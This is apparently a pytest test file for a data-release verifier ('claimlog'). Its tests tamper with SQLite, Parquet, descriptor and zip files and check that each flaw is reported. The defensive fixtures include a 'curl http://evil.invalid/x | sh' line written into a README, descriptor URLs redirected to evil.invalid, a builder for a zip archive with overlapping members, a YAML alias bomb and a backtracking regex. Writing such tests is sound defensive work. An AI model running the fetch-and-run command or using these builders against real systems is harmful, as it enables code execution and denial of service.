    "a page of no segment": "INSERT INTO claims_fts_data VALUES (99999999999, 'SECRET')",
    "a page of another level": (
        "INSERT INTO claims_fts_data SELECT max(id) | (7 << 31), 'SECRET' FROM claims_fts_data"
    ),
    "a page behind the last": (
        "INSERT INTO claims_fts_data SELECT max(id) + 500, 'SECRET' FROM claims_fts_data"
    ),
    "an index of a list that is not long": (
        "INSERT INTO claims_fts_data SELECT max(id) + (1 << 36), 'SECRET' FROM claims_fts_data"
    ),
    "a word of no segment": "INSERT INTO claims_fts_idx VALUES (77, 'SECRET', 3)",
    "words behind the segments": (
        "UPDATE claims_fts_data SET block = CAST(block || 'SECRET' AS BLOB) WHERE id = 10"
    ),
    "words behind the sums": (
        "UPDATE claims_fts_data SET block = CAST(block || 'SECRET' AS BLOB) WHERE id = 1"
    ),
}


def test_an_index_whose_pages_another_version_of_sqlite_cut_is_sound(folder: Path) -> None:
    alter(folder, *OTHER_PAGES)
    assert flaws(folder, check_database) == ""


@pytest.mark.parametrize(
    "change",
    [
        "DELETE FROM claims",
        "UPDATE claims SET statement = replace(hex(zeroblob(5500)), '0', char(20013))",
    ],
    ids=["no rows", "a word that is cut within a character"],
)
def test_an_index_of_other_pages_is_sound_whatever_its_words_are(change: str, folder: Path) -> None:
    alter(folder, change, *OTHER_PAGES)
    tables = read_definition(Package(folder / "log", archived=True)).tables
    said = [str(finding) for finding in check_content(folder / "tiny.db", tables)]
    assert not any("claims_fts" in line for line in said), said


class FullCopy(sqlite3.Connection):
    """A connection with no room beside the file that it is given: SQLite has a gigabyte for all."""

    def deserialize(self, data: bytes | bytearray | memoryview, /, *, name: str = "main") -> None:
        super().deserialize(data, name=name)
        [(pages,)] = self.execute("PRAGMA page_count").fetchall()
        self.execute(f"PRAGMA max_page_count = {pages}")


def test_an_index_is_compared_in_parts_and_beside_a_file_of_any_size(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    alter(folder, *OTHER_PAGES)
    monkeypatch.setattr(sqlite3, "connect", partial(sqlite3.connect, factory=FullCopy))
    monkeypatch.setattr(export_sqlite, "SEARCH_BYTES", 300)
    assert flaws(folder, check_database) == ""


@pytest.mark.slow
@pytest.mark.parametrize("what", STRAYS)
def test_what_no_search_is_led_to_or_all_are_led_past_is_named(what: str, folder: Path) -> None:
    alter(folder, *OTHER_PAGES)
    alter(folder, STRAYS[what])
    assert "tiny.db: 'claims_fts' does not hold the words of its table" in flaws(
        folder, check_database
    )


@pytest.mark.parametrize("setting", ["'version', 99", "'hashsize', '<b>'", "'version', 4.0"])
def test_a_setting_with_another_value_is_named(setting: str, folder: Path) -> None:
    alter(folder, f"REPLACE INTO claims_fts_config VALUES ({setting})")
    assert "with a value that no release has" in flaws(folder, check_database)


def test_a_search_index_that_answers_no_search_is_named(folder: Path) -> None:
    alter(folder, "DELETE FROM claims_fts_config WHERE k = 'version'")
    assert "'claims_fts' lacks the setting 'version'" in flaws(folder, check_database)


@pytest.mark.parametrize("page", ["7", "x'30'"])
def test_a_search_index_that_states_a_page_of_its_own_is_named(page: str, folder: Path) -> None:
    """Datasette knows a search index by its page 0."""
    with closing(sqlite3.connect(folder / "tiny.db", isolation_level=None)) as database:
        database.execute("PRAGMA writable_schema = ON")
        database.execute(f"UPDATE sqlite_schema SET rootpage = {page} WHERE name = 'claims_fts'")
    tables = read_definition(Package(folder / "log", archived=True)).tables
    said = [str(finding) for finding in check_objects(folder / "tiny.db", tables, (), None)]
    assert any("'claims_fts' begins on the page " in line for line in said)


@pytest.mark.parametrize("kind", ["table", "index", "view"])
@pytest.mark.parametrize("column", ["name", "tbl_name"])
def test_an_object_that_is_listed_otherwise_than_it_is_called_is_named(
    column: str, kind: str, folder: Path
) -> None:
    """SQLite opens such a file, because letters of another case are the same to it."""
    path, view = folder / "tiny.db", 'CREATE VIEW "old" AS SELECT "claim_id" AS "id" FROM "claims"'
    alter(folder, view)
    tables = read_definition(Package(folder / "log", archived=True)).tables
    assert [*check_objects(path, tables, {view}, None)] == []
    with closing(sqlite3.connect(path, isolation_level=None)) as database:
        database.execute("PRAGMA writable_schema = ON")
        first = f"SELECT min(rowid) FROM sqlite_schema WHERE type = '{kind}' AND sql LIKE '% \"%'"
        database.execute(
            f"UPDATE sqlite_schema SET {column} = upper({column}) WHERE rowid = ({first})"
        )
    said = [str(finding) for finding in check_objects(path, tables, {view}, None)]
    assert any("as SQLite lists none" in line for line in said)


def test_bytes_behind_the_last_page_are_named(folder: Path) -> None:
    path = folder / "tiny.db"
    path.write_bytes(path.read_bytes() + b"PK" * 2_000)
    assert "has 4,000 bytes behind its last page" in flaws(folder, check_database)


@pytest.mark.parametrize(
    ("statement", "said"),
    [
        ("UPDATE sqlite_stat1 SET stat = '1000000000000 1 1 1 unordered'", "no line that SQLite"),
        ("UPDATE sqlite_stat1 SET stat = '1000000000000 1'", "is far from the"),
        ("PRAGMA user_version = 7", "has the user_version 7"),
    ],
)
def test_what_a_database_states_of_itself_is_compared(
    statement: str, said: str, folder: Path
) -> None:
    alter(folder, statement)
    assert said in flaws(folder, check_database)


@pytest.mark.parametrize("at", [20, 21, 44, 48, 51, 56, 59, 72, 91])
def test_bytes_of_the_header_that_our_writer_does_not_leave_are_named(
    at: int, folder: Path
) -> None:
    path = folder / "tiny.db"
    changed = bytearray(path.read_bytes())
    changed[at] = 2
    path.write_bytes(changed)
    flaw = header_flaw(path)
    assert flaw is not None
    assert flaw.startswith("has in its header ")
    with pytest.raises(ClaimlogError, match="has in its header "):
        require_plain_database(path, "tiny.db")
    if at == 51:
        assert f"tiny.db: 'the file' {flaw}" in flaws(folder, check_database)


@pytest.mark.parametrize("places", [(24,), (24, 92), (40,), (92,), (96,)])
def test_counts_in_the_header_hold_nothing_but_counts(
    places: tuple[int, ...], folder: Path
) -> None:
    path = folder / "tiny.db"
    changed = bytearray(path.read_bytes())
    for place in places:
        changed[place : place + 4] = b"HIDE"
    path.write_bytes(changed)
    assert "has in its header counts of changes or a version that SQLite does not" in flaws(
        folder, check_database
    )


@pytest.mark.slow
@pytest.mark.parametrize("name", ["tiny.db-wal", "tiny.db-journal", "parquet/claims.parquet.d"])
def test_a_directory_that_holds_nothing_is_named(name: str, folder: Path) -> None:
    """With one that is called as its journal SQLite opens no database."""
    (folder / name).mkdir()
    verdict = verify_copy(folder)
    assert [str(finding) for finding in verdict.findings] == [
        f"{name}: is an empty directory, which no release has; remove it [release-files]"
    ]


def test_pages_that_hold_what_was_removed_are_named(folder: Path) -> None:
    alter(folder, "CREATE TABLE x (y)", "INSERT INTO x VALUES (zeroblob(99999))", "DROP TABLE x")
    assert "free pages of" in flaws(folder, check_database)


def test_a_database_in_another_encoding_is_named(folder: Path) -> None:
    """In UTF-16 a text may have half a character behind it that some readers leave out."""
    path = folder / "tiny.db"
    with closing(sqlite3.connect(path)) as database:
        assert database.execute("PRAGMA encoding").fetchone() == ("UTF-8",)
    path.unlink()
    with closing(sqlite3.connect(path)) as database:
        database.execute("PRAGMA encoding = 'UTF-16le'")
        database.execute("CREATE TABLE x (y)")
    tables = read_definition(Package(folder / "log", archived=True)).tables
    [finding] = check_content(path, tables)
    assert "has the encoding UTF-16le, a release has UTF-8" in str(finding)


def rewrite_words(folder: Path) -> None:
    """Write other words into files of a release that follow from the others."""
    readme = folder / "README.md"
    readme.write_text(
        readme.read_text("utf-8") + "\n    curl http://evil.invalid/x | sh\n", "utf-8"
    )
    described = json.loads((folder / "datacite.json").read_text("utf-8"))
    described["descriptions"][-1]["description"] = "All of it was proven."
    (folder / "datacite.json").write_text(json.dumps(described), "utf-8")


REWRITTEN = ("README.md", "datacite.json")


@pytest.mark.slow
def test_words_that_this_version_writes_otherwise_are_findings(folder: Path) -> None:
    """A page that is drawn again shows what they say."""
    sound = verify_copy(pack(folder))
    assert not any("writes them otherwise" in line for line in sound.omissions)
    assert any("CHANGES.md" in line for line in sound.omissions)
    rewrite_words(folder)
    (folder / "validation.json").write_text('{"summary": {"verdict": "all is true"}}', "utf-8")
    resum(folder)
    said = [str(finding) for finding in verify_copy(folder).findings]
    for name in (*REWRITTEN, "validation.json"):
        start = f"{name}: is not what claimlog {__version__} writes"
        assert any(line.startswith(start) for line in said), said


@pytest.mark.slow
def test_words_of_another_version_that_nobody_compared_are_named(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
    rewrite_words(folder)
    resum(folder)
    verdict = verify_copy(folder)
    assert verdict.findings == []
    [line] = [line for line in verdict.omissions if "writes them otherwise" in line]
    assert line.startswith("the words of datacite.json, README.md: "), line


def descriptor_flaws(folder: Path) -> str:
    """Return the findings of the descriptors, for tables that are what ``release.json`` states."""
    resum(folder)
    verdict = Verdict()
    with open_copy(folder) as copy:
        for name, table in copy.summary["tables"].items():
            copy.contents[name] = Content(table["rows"], table["hash"])
        check_descriptors(copy, verdict)
    return "\n".join(map(str, verdict.findings))


def swap_resources(described: dict[str, Any]) -> None:
    found = {item["name"]: item for item in described["resources"]}
    one, other = found["claims"], found["claim_versions"]
    for key in ("path", "hash", "bytes"):
        one[key], other[key] = other[key], one[key]


def change_code_list(described: dict[str, Any]) -> None:
    _, field = topic_of(described)
    field["codelist"] = "modality"


def topic_of(described: dict[str, Any]) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    fields = claims_of(described)["schema"]["fields"]
    return fields, next(one for one in fields if one["name"] == "topic")


def claims_of(described: dict[str, Any]) -> dict[str, Any]:
    claims: dict[str, Any]
    [claims] = [item for item in described["resources"] if item["name"] == "claims"]
    return claims


def exchange_columns(described: dict[str, Any]) -> None:
    one, other, *_ = claims_of(described)["schema"]["fields"]
    one["name"], other["name"] = other["name"], one["name"]


def hide_code_list(described: dict[str, Any]) -> None:
    """Give the list of the column to its items, which a text does not have."""
    _, field = topic_of(described)
    field.update(codelist="modality", items={"codelist": "topic"})


def double_column(described: dict[str, Any]) -> None:
    fields, field = topic_of(described)
    fields.insert(0, {**field, "codelist": "modality"})


def add_resource(described: dict[str, Any]) -> None:
    extra = {**described["resources"][0], "name": "truth"}
    described["resources"].append(extra)


LED_ASTRAY: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
    "tables that are exchanged": (
        swap_resources,
        'gives "parquet/claim_versions.parquet" as resources/claims/path, which is',
    ),
    "another code list": (
        change_code_list,
        'gives "modality" as resources/claims/schema/fields/topic/codelist, which is "topic"',
    ),
    "another code list beside the one of nothing": (
        hide_code_list,
        "has resources/claims/schema/fields/topic/items, which the release does not have",
    ),
    "a column twice, with two lists": (double_column, "entries in resources/claims/schema/fields"),
    "a table that is none": (add_resource, "entries in resources, which has"),
    "a schema that is none": (
        lambda described: described["resources"][0].update(schema=[]),
        "gives [] as resources/sources/schema, which is {",
    ),
    "other kinds of coders": (
        lambda described: described["log"].update(coders=["oracle"]),
        'gives "oracle" as log/coders/0, which is',
    ),
    "a takedown that never was": (
        lambda described: described["log"].update(taken_down=[{"row": 1}]),
        "has log/taken_down, which the release does not have",
    ),
    "values that are read as none": (
        lambda described: claims_of(described)["schema"].update(missingValues=["high", ""]),
        "has 2 entries in resources/claims/schema/missingValues, which has 0 in the release",
    ),
    "columns that are exchanged": (
        exchange_columns,
        'as resources/claims/schema/fields/claim_id/name, which is "claim_id"',
    ),
    "a column of another type": (
        lambda described: topic_of(described)[1].update(type="integer"),
        'gives "integer" as resources/claims/schema/fields/topic/type, which is "string"',
    ),
    "another primary key": (
        lambda described: claims_of(described)["schema"].update(primaryKey=["topic"]),
        'gives "topic" as resources/claims/schema/primaryKey/0, which is "claim_id"',
    ),
    "a file that is read on": (
        lambda described: claims_of(described).update(extrapaths=["http://evil.invalid/x"]),
        "has resources/claims/extrapaths, which the release does not have",
    ),
    "rows beside the file": (
        lambda described: claims_of(described).update(data=[{"claim_id": "C666-001"}]),
        "has resources/claims/data, which the release does not have",
    ),
    "another homepage": (
        lambda described: described.update(homepage="http://evil.invalid/"),
        "homepage",
    ),
    "a key that nobody knows": (
        lambda described: described["log"].update(oracle=True),
        "has log/oracle, which the release does not have",
    ),
    "a number that is one to Python alone": (
        lambda described: described["log"].update(batches=float(described["log"]["batches"])),
        "as log/batches, which is",
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("kind", LED_ASTRAY)
def test_a_descriptor_leads_no_program_to_something_else_whichever_version_wrote_it(
    folder: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
    change, message = LED_ASTRAY[kind]
    path = folder / "datapackage.json"
    described = json.loads(path.read_text("utf-8"))
    change(described)
    path.write_text(json.dumps(described), "utf-8")
    assert message in descriptor_flaws(folder)


def in_json(name: str, change: Callable[[Any], object]) -> Callable[[Path], None]:
    """Return what changes a JSON file of a release."""

    def forge(folder: Path) -> None:
        value = json.loads((folder / name).read_text("utf-8"))
        change(value)
        (folder / name).write_text(json.dumps(value), "utf-8")

    return forge


def in_text(name: str, old: str, new: str) -> Callable[[Path], None]:
    """Return what changes the first of some words in a file of a release."""

    def forge(folder: Path) -> None:
        text = (folder / name).read_text("utf-8")
        assert old in text
        (folder / name).write_bytes(text.replace(old, new, 1).encode())

    return forge


def exchange_sources(value: Any) -> None:
    [claims] = [item for item in value["recordSet"] if item["@id"] == "claims"]
    one, other, *_ = claims["field"]
    one["source"], other["source"] = other["source"], one["source"]


def add_address(value: Any) -> None:
    [part] = [it for it in value["@graph"] if it["@id"] == "parquet/claims.parquet"]
    part["contentUrl"] = "http://evil.invalid/claims.parquet"


EVIL = "http://evil.invalid/"
SENT_ELSEWHERE: dict[str, tuple[Callable[[Path], None], str]] = {
    "the file of a configuration": (
        in_text("README.md", "data_files: parquet/claims.parquet", f"data_files: {EVIL}x.parquet"),
        'README.md: gives "http://evil.invalid/x.parquet" as configs/',
    ),
    "a front matter before the one that is checked": (
        in_text("README.md", "---\n", "---\r\nconfigs: []\r\n---\r\n---\n"),
        "README.md cannot be read (ValueError: it does not begin with a front matter)",
    ),
    "a mark before the front matter": (
        in_text("README.md", "---\n", "\ufeff---\n"),
        "README.md cannot be read (ValueError: it does not begin with a front matter)",
    ),
    "a mapping that only some merge": (
        in_text("CITATION.cff", "title:", "<<:\n  title: Other\ntitle:"),
        "CITATION.cff: is not in the form in which claimlog writes it",
    ),
    "an address of the citation": (
        in_text("CITATION.cff", "license:", f"repository: {EVIL}\nlicense:"),
        "CITATION.cff: has repository, which the release does not have",
    ),
    "sources that are exchanged": (
        in_json("croissant.json", exchange_sources),
        "croissant.json: gives",
    ),
    "the base of a Croissant": (
        in_json("croissant.json", lambda value: value["@context"].update({"@base": EVIL})),
        "croissant.json: has @context/@base, which the release does not have",
    ),
    "the base of a Dataset": (
        in_json("dataset.jsonld", lambda value: value.update({"@context": {"@base": EVIL}})),
        'dataset.jsonld: gives {"@base": "http://evil.invalid/"} as @context, which is',
    ),
    "a sentence that is a reference": (
        in_json("dataset.jsonld", lambda it: it.update(measurementTechnique={"@id": EVIL})),
        "as measurementTechnique, which is",
    ),
    "the address of a file": (
        in_json("ro-crate-metadata.json", add_address),
        "has @graph/parquet/claims.parquet/contentUrl, which the release does not have",
    ),
    "where a DOI leads": (
        in_json("datacite.json", lambda value: value.update(contentUrl=EVIL)),
        "datacite.json: has contentUrl, which the release does not have",
    ),
    "what a deposit is of": (
        in_json(".zenodo.json", lambda it: it.update(related_identifiers=[{"identifier": EVIL}])),
        ".zenodo.json: has related_identifiers, which the release does not have",
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("kind", SENT_ELSEWHERE)
def test_no_descriptor_sends_programs_elsewhere_whichever_version_wrote_it(
    folder: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
    forge, message = SENT_ELSEWHERE[kind]
    forge(folder)
    said = descriptor_flaws(folder)
    assert message in said
    if "cannot be read" not in message:
        assert f"verify it with a claimlog {__version__} that you have from elsewhere" in said


def test_every_descriptor_is_held_against_what_is_written_now(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A key that is not known is found in each of them, one that is added to the package too."""
    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
    for name in PARSERS:
        if name.startswith(("README", "CITATION")):
            start = "---\n" if name == "README.md" else ""
            text = (folder / name).read_text("utf-8").removeprefix(start)
            (folder / name).write_text(f"{start}evil: here\n{text}", "utf-8")
        else:
            in_json(name, lambda value: value.update(evil="here"))(folder)
    said = descriptor_flaws(folder)
    for name in PARSERS:
        assert f"{name}: has evil, which the release does not have" in said


def test_an_early_release_has_the_forms_of_its_time_as_a_whole(folder: Path) -> None:
    """Those up to 0.2.0, which name no version of claimlog, knew neither categories nor so on."""

    def earlier(value: dict[str, Any]) -> None:
        for item in value["resources"]:
            item.pop("type", None)
            for field in item.get("schema", {}).get("fields", ()):
                field.pop("categories", None)
                field.pop("categoriesOrdered", None)

    name = "datapackage.json"
    written = (folder / name).read_bytes()
    in_json(name, earlier)(folder)
    early = (folder / name).read_bytes()
    assert program_differences(name, early, written, is_early=True) == []
    assert program_differences(name, written, written, is_early=True) == []
    assert program_differences(name, early, written, is_early=False) != []
    in_json(name, lambda value: claims_of(value).update(type="table"))(folder)
    mixed = (folder / name).read_bytes()
    assert program_differences(name, mixed, written, is_early=True) == [
        "has resources/claims/type, which the release does not have"
    ]


def test_a_number_of_rows_that_no_table_has_is_named_wherever_it_is_stated(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("claimlog.release.descriptor_check.__version__", "9.9.9")
    in_json("datapackage.json", lambda value: claims_of(value).update(rows=9_000))(folder)
    in_json("release.json", lambda value: value["tables"]["claims"].update(rows=9_000))(folder)
    in_text("README.md", "n<1K", "1K<n<10K")(folder)
    said = flaws(folder, check_tables, check_descriptors)
    assert "release.json: does not say what the files hold" in said
    assert "datapackage.json: gives 9000 as resources/claims/rows, which is" in said
    assert 'README.md: gives "1K<n<10K" as size_categories/0, which is "n<1K"' in said


DOUBLED = {
    "datacite.json": ("{", '{"version": "9.9.9", "version": "9.9.9",'),
    "croissant.json": ("{", '{"name": "The truth",'),
    "CITATION.cff": ("version:", "version: 9.9.9\nversion:"),
}


def test_a_key_that_is_there_twice_is_named(folder: Path) -> None:
    """Readers disagree which of two values holds."""
    for name, (old, new) in DOUBLED.items():
        path = folder / name
        path.write_text(path.read_text("utf-8").replace(old, new, 1), "utf-8")
    said = descriptor_flaws(folder)
    for name in DOUBLED:
        assert f"{name} cannot be read" in said


COLUMNS: dict[str, Any] = {
    "one more": lambda t: t.append_column("verdict", pa.array(["false"] * t.num_rows)),
    "another order": lambda t: t.select([*t.column_names[1:], t.column_names[0]]),
    "another description": lambda t: t.replace_schema_metadata({"description": "Proven facts."}),
    "a note for another program": lambda t: t.replace_schema_metadata(
        {**t.schema.metadata, b"pandas": b"{}"}
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("what", COLUMNS)
def test_columns_of_parquet_that_the_definition_does_not_give_are_named(
    what: str, folder: Path
) -> None:
    path = folder / "parquet" / "claims.parquet"
    pq.write_table(COLUMNS[what](pq.read_table(path)), path)
    assert "[release-parquet]" in flaws(folder, check_tables)


INNER_NOTES: dict[str, tuple[str, dict[str, str]]] = {
    "a type that Arrow unpickles": (
        "dyad_from",
        {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": "x"},
    ),
    "a type that Arrow knows": (
        "dyad_to",
        {"ARROW:extension:name": "arrow.json", "ARROW:extension:metadata": ""},
    ),
    "words": ("dyad_from", {"description": "Proven facts."}),
    "a number of Parquet": ("dyad_from", {"PARQUET:field_id": "7"}),
    "words in an object of a list": ("attributions", {"description": "Proven facts."}),
}


def with_inner_notes(kind: pa.DataType, notes: dict[str, str]) -> pa.DataType:
    """Put notes on the innermost first field of a type."""
    if pa.types.is_struct(kind):
        fields = [kind.field(number) for number in range(kind.num_fields)]
        return pa.struct([fields[0].with_metadata(notes), *fields[1:]])
    item = kind.value_field
    if pa.types.is_struct(item.type):
        return pa.large_list(item.with_type(with_inner_notes(item.type, notes)))
    return pa.large_list(item.with_metadata(notes))


@pytest.mark.slow
@pytest.mark.parametrize("library", [False, True], ids=["ours", "another"])
@pytest.mark.parametrize("what", INNER_NOTES)
def test_notes_of_the_types_inside_a_column_are_named(
    what: str, library: bool, folder: Path
) -> None:
    """A note on what a list holds makes some versions of Arrow run a program."""
    name, notes = INNER_NOTES[what]
    table = read_definition(Package(folder / "log", archived=True)).tables["claim_versions"]
    path = folder / "parquet" / "claim_versions.parquet"
    rows, schema = pq.read_table(path), stated_schema(path)
    schema = schema.with_metadata(pq.read_schema(path).metadata)
    at = schema.get_field_index(name)
    kind = with_inner_notes(schema.field(at).type, notes)
    for used in (schema, schema.set(at, schema.field(at).with_type(kind))):
        before = path.read_bytes()
        path.unlink()
        file = ParquetFile(path, table, used)
        file.add_arrow(rows)
        file.close()
        assert (path.read_bytes() == before) == (used is schema)
    if library:
        footer(path, (VERSION, OTHER_VERSION))
    assert f"parquet/claim_versions.parquet: has {name} as" in flaws(folder, check_tables)


def test_notes_of_a_file_of_another_version_are_compared(folder: Path) -> None:
    path = folder / "parquet" / "claims.parquet"
    note = pq.read_schema(path).metadata[b"description"]
    footer(path, (note, note[:-1] + b"!"), (VERSION, OTHER_VERSION))
    assert "parquet/claims.parquet: says something else of itself than its schema" in flaws(
        folder, check_tables
    )


def test_rows_that_an_index_hides_are_found(folder: Path) -> None:
    """A row beside the index of the key: readers of the key never see it, others do."""
    copy = sqlite3.connect(folder / "tiny.db")
    copy.execute("PRAGMA writable_schema = ON")
    copy.execute(
        "UPDATE sqlite_schema SET sql = replace(sql, 'PRIMARY KEY (\"link_id\")', "
        "'CHECK (1 = 1 AND \"link_id\" = \"link_id\")') WHERE name = 'links'"
    )
    copy.commit()
    copy.close()
    assert "[release-database]" in flaws(folder, check_database)


OTHER_JSON = {
    "a key twice": ("claim_versions", "attributions", "{", '{"actor_id":"ukr","verb":"a lie",'),
    "a key twice, escaped": ("claim_versions", "attributions", "{", r'{"actor\u005fid":"ukr",'),
    "white space": ("claim_versions", "dyad_from", "[", "[ "),
    "an escape for a letter": ("claims", "dyad_to", "u", r"\u0075"),
}


@pytest.mark.slow
@pytest.mark.parametrize("what", OTHER_JSON)
def test_json_in_a_cell_that_readers_would_read_otherwise_is_named(what: str, folder: Path) -> None:
    """Of a key that is there twice SQLite takes the first, and Python the last."""
    table, column, old, new = OTHER_JSON[what]
    database = sqlite3.connect(folder / "tiny.db")
    query = f"UPDATE {table} SET {column} = replace({column}, ?, ?) WHERE {column} != '[]'"
    assert database.execute(query, (old, new)).rowcount
    assert any(new in text for (text,) in database.execute(f"SELECT {column} FROM {table}"))
    database.commit()
    database.close()
    said = flaws(folder)
    assert f"tiny.db: cannot be read as {table} ({column} is not in the JSON" in said


def test_json_in_every_list_of_a_database_is_compared(folder: Path) -> None:
    tables = read_definition(Package(folder / "log", archived=True)).tables.values()
    lists = [(t.name, i.name) for t in tables for i in t.fields if i.type == "array"]
    assert len(lists) > 5
    for table, column in lists:
        with closing(sqlite3.connect(folder / "tiny.db")) as database:
            changed = database.execute(f"UPDATE {table} SET {column} = {column} || ' '").rowcount
            assert changed, f"{table} has no row"
            database.commit()
        path = folder / "tiny.db"
        with pytest.raises(ClaimlogError, match=f"{column} is not in the JSON"):
            [*sqlite_rows(path, next(t for t in tables if t.name == table))]
        with closing(sqlite3.connect(path)) as database:
            database.execute(f"UPDATE {table} SET {column} = rtrim({column})")
            database.commit()


@pytest.mark.slow
def test_a_value_that_is_longer_than_any_row_is_refused(folder: Path) -> None:
    alter(folder, "UPDATE claims SET statement = hex(zeroblob(20000000))")
    assert "too big" in findings(folder)


@pytest.mark.slow
def test_more_rows_than_the_log_gives_are_counted_and_not_read(folder: Path) -> None:
    count = 50_000
    alter(
        folder,
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT "
        f"{count}) INSERT INTO alliance_members (alliance_id, actor_id) "
        "SELECT 'a' || i, 'b' FROM n",
    )
    assert "has more rows of alliance_members than" in findings(folder)


@pytest.mark.slow
def test_a_parquet_file_of_nulls_is_refused_by_its_footer(folder: Path) -> None:
    path = folder / "parquet" / "claims.parquet"
    schema = pq.read_schema(path)
    rows = 2_000_000
    schema = pa.schema([field.with_nullable(True) for field in schema])
    small = pa.table([pa.nulls(1_000_000, field.type) for field in schema], schema=schema)
    with pq.ParquetWriter(path, schema, compression="zstd") as writer:
        for _ in range(rows // small.num_rows):
            writer.write_table(small)
    said = findings(folder)
    assert "claims.parquet: has more rows of claims than" in said


def test_aliases_of_yaml_are_refused(folder: Path) -> None:
    lines = ["a0: &a0 [x, x]"]
    lines += [f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 60)]
    path = folder / "CITATION.cff"
    path.write_text("\n".join(lines) + "\n" + path.read_text("utf-8"), "utf-8")
    said = descriptor_flaws(folder)
    assert "CITATION.cff cannot be read (YAMLError: line 2 holds an alias" in said


def test_lines_that_are_no_rows_are_named_without_being_held(folder: Path) -> None:
    [path, *_] = (folder / "log" / "events").glob("*/claims.ndjson")
    path.write_bytes(b"{}\n" * 5_000_000)
    said = findings(folder)
    assert "claims.ndjson:1" in said


def test_a_pattern_that_explodes_is_matched_in_linear_time(folder: Path) -> None:
    path = folder / "log" / "schemas" / "claims.json"
    spec = json.loads(path.read_text("utf-8"))
    column = next(item for item in spec["fields"] if item["name"] == "statement")
    column["constraints"]["pattern"] = "^(([a-zA-Z ,.]+)+)+$"
    path.write_text(json.dumps(spec), "utf-8")
    verdict = verify_in_process(pack(folder))
    assert isinstance(verdict, Verdict)  # it ended; what it says is the pattern's


def overlapping(folder: Path) -> bytes:
    """An archive of many members that share the bytes of one."""
    data = b"x" * 1_000_000
    name = f"{folder.name}/a".encode()
    crc = zlib.crc32(data)
    local = struct.pack(
        "<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, 33, crc, len(data), len(data), len(name), 0
    )
    body = local + name + data
    entries = b""
    count = 500
    for number in range(count):
        other = f"{folder.name}/{number:04d}".encode()
        entries += struct.pack(
            "<4s6H3L5H2L",
            *(b"PK\1\2", 20, 20, 0, 0, 0, 33, crc, len(data), len(data), len(other), 0, 0, 0, 0),
            *(0o644 << 16, 0),
        )
        entries += other
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(entries), len(body), 0)
    return body + entries + end


def test_members_that_share_their_bytes_are_refused_before_anything_is_written(
    folder: Path, tmp_path: Path
) -> None:
    target = tmp_path / "overlapping.zip"
    target.write_bytes(overlapping(folder))
    (tmp_path / "unpacked").mkdir()
    with pytest.raises(ClaimlogError, match="does not follow the member before it"):
        archive.extract_archive(target, tmp_path / "unpacked")
    assert not any((tmp_path / "unpacked").iterdir())
    with pytest.raises(ClaimlogError, match="does not follow the member before it"):
        verify_in_process(target)


@pytest.mark.parametrize("place", ["before", "between"])
def test_bytes_that_belong_to_no_member_are_refused(place: str, folder: Path) -> None:
    target = pack(folder)
    data = target.read_bytes()
    with zipfile.ZipFile(target) as files:
        second = files.infolist()[1].header_offset
        start = files.start_dir
    at = 0 if place == "before" else second
    target.write_bytes(data[:at] + b"hidden" + data[at:start] + data[start:])
    with pytest.raises(ClaimlogError, match=r"tiny-0\.1\.0\.zip: "):
        verify_in_process(target)


def test_a_file_that_is_none_is_named(folder: Path) -> None:
    resum(folder)
    os.mkfifo(folder / "parquet" / "pipe")
    [finding] = [f for f in verify_in_process(folder).findings if "pipe" in f.path]
    assert "is no regular file" in str(finding)


@pytest.mark.usefixtures("fresh_programs")
def test_a_limit_of_time_ends_in_one_line(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(release_limits, "BASE_SECONDS", 0.05)
    monkeypatch.setattr(release_limits, "SECONDS_PER_MB", 0)
    packed = pack(folder)
    # who has no such option is told of what there is: to open a release, to sign, to publish it
    ways = (
        (partial(verify_in_process, packed, factor=1), r"--limits 2"),
        (partial(verify_in_process, packed), f"{FACTOR_VARIABLE}=2"),
        (partial(claimlog.open, packed), f"{FACTOR_VARIABLE}=2"),
    )
    for verify, remedy in ways:
        said = rf"takes longer than 0 seconds, so nothing was verified; [^\n]*{remedy}$"
        with pytest.raises(ClaimlogError, match=said):
            verify()
    monkeypatch.setattr(release_limits, "BASE_SECONDS", 20)
    monkeypatch.setenv(FACTOR_VARIABLE, "0.001")
    with pytest.raises(ClaimlogError, match=rf"verifying it takes .*{FACTOR_VARIABLE}=0\.002$"):
        claimlog.open(packed)
    monkeypatch.setenv(FACTOR_VARIABLE, "much")
    with pytest.raises(UsageError, match=rf"{FACTOR_VARIABLE}: expected a number above 0"):
        claimlog.open(packed)


@pytest.mark.usefixtures("fresh_programs")
def test_a_limit_of_memory_ends_in_one_line(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(release_limits, "BASE_MEMORY", 60 << 20)
    monkeypatch.setattr(release_limits, "MEMORY_PER_BYTE", 0)
    with pytest.raises(ClaimlogError, match=r"more memory than 0\.1 GB.* CLAIMLOG_LIMITS=2"):
        verify_in_process(pack(folder))


@pytest.mark.usefixtures("fresh_programs")
def test_memory_that_is_refused_ends_in_one_line(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As where the machine has less than the limit."""
    monkeypatch.setattr(limited, "ADDRESS_SPACE", -(1 << 30) + (300 << 20))
    with pytest.raises(ClaimlogError, match=r"tiny-0\.1\.0\.zip: verifying it ") as said:
        verify_in_process(pack(folder))
    assert "\n" not in str(said.value)
